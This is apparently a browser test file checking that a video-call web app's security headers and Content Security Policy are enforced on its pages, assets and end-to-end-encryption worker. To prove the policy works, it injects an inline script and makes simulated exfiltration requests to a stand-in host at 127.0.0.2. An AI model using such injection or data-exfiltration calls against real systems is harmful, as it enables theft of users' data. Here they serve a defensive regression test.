// The real app as `wrangler dev` serves it from web/dist: every page and asset carries the security
// headers with the suite's SFU in connect-src, and in the browser the policy is live: the page is
// cross-origin isolated, an injected inline script does not run and a connection to any other
// origin is refused, each reported as a violation (which is how csp-guard.ts catches regressions).
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { launchBrowser, type RunningBrowser } from "../support/browser";
import { expectedSecurityHeaders, headersOf } from "../support/security-headers";
import { encodeCallSecret, generateCallSecret, systemRandom } from "../../web/src/core";
import {
  collectPendingViolations,
  joinFromPreJoin,
  openPage,
  type Participant,
  TEST_QUERY,
  takeCspViolations,
  waitFor,
} from "./pages";

const origin = inject("origin");
const livekit = inject("livekit");

/** connect-src for the suite's SFU: ws://127.0.0.1:<port> in both forms. */
function connectSrc(): string {
  const { host } = new URL(livekit.url);
  return `'self' ws://${host} http://${host}`;
}

async function fetchApp(path: string) {
  const response = await fetch(`${origin}${path}`);
  expect(response.status, path).toBe(200);
  return response;
}

describe("security headers of the served app", () => {
  it("sends every header, exactly, on the page, its scripts, the E2EE worker and deep links", async () => {
    const index = await fetchApp("/");
    const html = await index.text();
    const script = /src="(\/assets\/index-[^"]+\.js)"/.exec(html)?.[1];
    const style = /href="(\/assets\/index-[^"]+\.css)"/.exec(html)?.[1];
    expect(script).toBeDefined();
    expect(style).toBeDefined();
    const bundle = await (await fetchApp(script ?? "")).text();
    const worker = /assets\/e2eeWorker-[\w-]+\.js/.exec(bundle)?.[0];
    expect(worker, "the bundle names the E2EE worker's file").toBeDefined();

    const expected = expectedSecurityHeaders(connectSrc());
    const names = Object.keys(expected);
    expect(headersOf(index, names)).toEqual(expected);
    for (const path of [script, style, `/${worker}`, "/some/deep/link", "/?video=low#abc"]) {
      const response = await fetchApp(path ?? "");
      expect(headersOf(response, names), path).toEqual(expected);
    }
    // The single-page fallback still answers deep links with the app.
    expect(await (await fetchApp("/some/deep/link")).text()).toBe(html);
  });
});

describe("the policy in the browser", () => {
  let browser: RunningBrowser;
  let page: Participant;

  beforeAll(async () => {
    browser = await launchBrowser();
    page = await openPage(await browser.newParticipant(origin), "Csp");
    await page.page.goto(`${origin}/`);
    await page.page.getByRole("button", { name: /new call/i }).waitFor();
  });

  afterAll(async () => {
    await browser?.close();
  });

  it("is cross-origin isolated", async () => {
    expect(await page.page.evaluate(() => window.crossOriginIsolated)).toBe(true);
  });

  it("refuses an injected inline script and a connection elsewhere, and reports both", async () => {
    const outcome = await page.page.evaluate(async () => {
      const script = document.createElement("script");
      script.textContent = "window.__injected = true";
      document.head.append(script);
      let fetched = "fetched";
      try {
        await fetch("http://127.0.0.2:9/exfiltrate", { method: "POST", body: "secret" });
      } catch {
        fetched = "refused";
      }
      // Violation events are queued as tasks: give them one.
      await new Promise((resolve) => setTimeout(resolve, 100));
      return { ran: "__injected" in window, fetched };
    });
    expect(outcome).toEqual({ ran: false, fetched: "refused" });
    // Take the deliberate violations so the guard does not fail this test for them.
    const violations = takeCspViolations();
    expect(
      violations.some((v) => /script-src(-elem)? blocked inline/.test(v)),
      `${violations}`,
    ).toBe(true);
    expect(
      violations.some((v) => v.includes("connect-src blocked http://127.0.0.2:9")),
      `${violations}`,
    ).toBe(true);
  });

  it("holds the E2EE worker to the policy too, and the guard hears the worker", async () => {
    const secret = encodeCallSecret(generateCallSecret(systemRandom));
    await page.page.goto(`${origin}/${TEST_QUERY}#${secret}`);
    await joinFromPreJoin(page);
    await waitFor("the E2EE worker starts", async () => page.page.workers().length > 0);
    const [worker] = page.page.workers();
    // Let the guard's listener settle in the worker before provoking it.
    await waitFor(
      "the guard listens in the worker",
      async () => (await worker?.evaluate(() => "__hushCsp" in self)) === true,
    );
    const fetched = await worker?.evaluate(() =>
      fetch("http://127.0.0.2:9/exfiltrate").then(
        () => "fetched",
        () => "refused",
      ),
    );
    expect(fetched).toBe("refused");
    await new Promise((resolve) => setTimeout(resolve, 200));
    await collectPendingViolations();
    const violations = takeCspViolations();
    expect(
      violations.some((v) =>
        /worker .*e2eeWorker.*connect-src blocked http:\/\/127\.0\.0\.2:9/.test(v),
      ),
      `${violations}`,
    ).toBe(true);
  });
});
